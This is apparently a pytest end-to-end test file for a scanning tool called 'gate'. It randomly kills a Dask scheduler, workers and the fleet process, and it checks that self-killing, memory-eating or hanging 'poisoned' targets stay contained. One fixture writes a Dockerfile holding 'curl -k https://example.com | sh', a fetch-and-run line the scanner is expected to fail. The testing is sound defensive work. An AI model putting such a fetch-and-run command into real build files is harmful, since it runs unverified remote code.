"""A fleet whose scheduler, workers and own process are killed at random, and targets that try to take others down.

They go through `gate/fleet/on_dask.py` and `gate/core/parent_process.py`.
"""

import json
import os
import random
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path

import pytest

from tests.e2e.conftest import NIGHTLY

pytestmark = pytest.mark.skipif(find_spec("distributed") is None, reason="distributed is not installed")

GATE = [sys.executable, "-m", "gate"]
TARGETS = 10 if NIGHTLY else 5
KILLS = 2 if NIGHTLY else 1
"""How often each worker is killed."""
POISONS = """
import os, signal, sys, time
name = os.path.basename(sys.orig_argv[-1])
if "gate" in sys.orig_argv and "fleet" not in sys.orig_argv:
    if name == "poison-dies":
        os.kill(os.getpid(), signal.SIGKILL)
    if name == "poison-eats":
        try:
            eaten = bytearray(64 << 30)
        except MemoryError:
            os._exit(1)  # the status of a verdict, but there is none
    if name == "poison-stays":
        time.sleep(3600)
"""
"""A module that Python loads first: the targets of these names behave as hostile content would if it could."""


class Cluster:
    """A scheduler and two workers on loopback, each started again when it ends, as a system of services would."""

    def __init__(self, folder: Path, environment: dict[str, str]) -> None:
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            self.address = f"127.0.0.1:{free.getsockname()[1]}"
        port = self.address.rpartition(":")[2]
        scheduler = ["scheduler", "--host", "127.0.0.1", "--port", port, "--no-dashboard"]
        worker = ["worker", f"tcp://{self.address}", "--nthreads", "1", "--no-dashboard", "--no-nanny"]
        worker += ["--death-timeout", "20", "--local-directory", str(folder / "dask")]
        self._commands = [
            [sys.executable, "-m", f"distributed.cli.dask_{one[0]}", *one[1:]] for one in (scheduler, worker, worker)
        ]
        self._environment = environment
        self._processes = [self._start(command) for command in self._commands]
        self._is_over = threading.Event()
        self._keeper = threading.Thread(target=self._keep)
        self._keeper.start()
        self.starts = len(self._commands)

    def kill(self, number: int) -> None:
        """Kill the scheduler (0) or a worker."""
        self._processes[number].send_signal(signal.SIGKILL)

    def stop(self) -> None:
        self._is_over.set()
        self._keeper.join()
        for process in self._processes:
            process.kill()
            process.wait()

    def _keep(self) -> None:
        while not self._is_over.wait(0.1):
            for number, process in enumerate(self._processes):
                if process.poll() is not None:
                    self._processes[number] = self._start(self._commands[number])
                    self.starts += 1

    def _start(self, command: list[str]) -> "subprocess.Popen[bytes]":
        return subprocess.Popen(command, env=self._environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


@pytest.fixture
def poisoned(tmp_path: Path) -> dict[str, str]:
    (tmp_path / "first").mkdir()
    (tmp_path / "first/sitecustomize.py").write_text(POISONS)
    return {**os.environ, "PYTHONPATH": str(tmp_path / "first")}


@pytest.fixture
def cluster(tmp_path: Path, poisoned: dict[str, str]) -> Iterator[Cluster]:
    cluster = Cluster(tmp_path, poisoned)
    yield cluster
    cluster.stop()


def folders(tmp_path: Path, *names: str) -> list[str]:
    for name in names:
        (tmp_path / name).mkdir()
        text = "FROM scratch\nRUN curl -k https://example.com | sh\n" if name.endswith("3") else "FROM scratch\n"
        (tmp_path / name / "Dockerfile").write_text(text)
    return [str(tmp_path / name) for name in names]


def made(store: Path) -> Path:
    subprocess.run([*GATE, "store", "init", "--store", str(store)], check=True, capture_output=True)
    return store


def start(store: Path, targets: list[str], env: dict[str, str], *words: str) -> "subprocess.Popen[str]":
    options = ["--options", "--stage dockerfile --offline", "--run", "night", "--output", f"{store}.jsonl"]
    command = [*GATE, "fleet", "run", *targets, "--store", str(store), *options, *words]
    return subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)


def ended(process: "subprocess.Popen[str]", store: Path) -> tuple[int, list[dict[str, str]], str]:
    said, _ = process.communicate(timeout=300)
    file = Path(f"{store}.jsonl")
    lines = [json.loads(line) for line in file.read_text().splitlines()] if file.exists() else []
    return process.returncode, lines, said


def records(store: Path) -> int:
    return sum(1 for path in (store / "records").rglob("*") if path.is_file())


def test_nothing_is_lost_or_judged_twice_when_anything_is_killed(
    tmp_path: Path, cluster: Cluster, poisoned: dict[str, str]
) -> None:
    targets = folders(tmp_path, *(f"code{number}" for number in range(TARGETS)))
    local = made(tmp_path / "local")
    status, expected, said = ended(start(local, targets, poisoned), local)
    assert (status, len(expected)) == (1, TARGETS), said
    seed = random.randrange(1 << 30)
    dice = random.Random(seed)
    store = made(tmp_path / "remote")
    run = start(store, targets, poisoned, "--on", f"dask://{cluster.address}")
    order = [0, *[1, 2] * KILLS]
    dice.shuffle(order)
    for number in order:
        time.sleep(dice.uniform(0.5, 3))
        cluster.kill(number)
    run.kill()  # the fleet itself: the same command goes on
    ended(run, store)
    status, lines, said = ended(start(store, targets, poisoned, "--on", f"dask://{cluster.address}"), store)
    assert (status, lines) == (1, expected), f"seed {seed}: {said}"
    assert Path(f"{store}.jsonl").read_bytes() == Path(f"{local}.jsonl").read_bytes()
    assert records(store) == records(local) == TARGETS, f"seed {seed}: something was judged twice"
    assert cluster.starts >= 3 + len(order) - 1


def test_a_poisoned_target_costs_its_own_limits_and_nothing_else(
    tmp_path: Path, cluster: Cluster, poisoned: dict[str, str]
) -> None:
    *targets, stays = folders(tmp_path, "poison-dies", "code1", "poison-eats", "code3", "poison-stays")
    store = made(tmp_path / "store")
    remote = ["--on", f"dask://{cluster.address}"]
    status, lines, said = ended(start(store, targets, poisoned, *remote), store)
    assert status == 3, said
    assert {Path(one["target"]).name: (one["status"], one["reason"]) for one in lines} == {
        "code1": ("pass", ""),
        "code3": ("fail", ""),
        "poison-dies": ("incomplete", "ended with status -9"),
        "poison-eats": ("incomplete", "ended with status 1"),
    }
    status, lines, said = ended(start(store, [stays], poisoned, *remote, "--limit", "3"), store)
    assert (status, len(lines)) == (3, 1), said
    assert lines[0]["reason"].startswith("gate run took more than 3 seconds")
    assert cluster.starts == 3, "no worker was taken down"
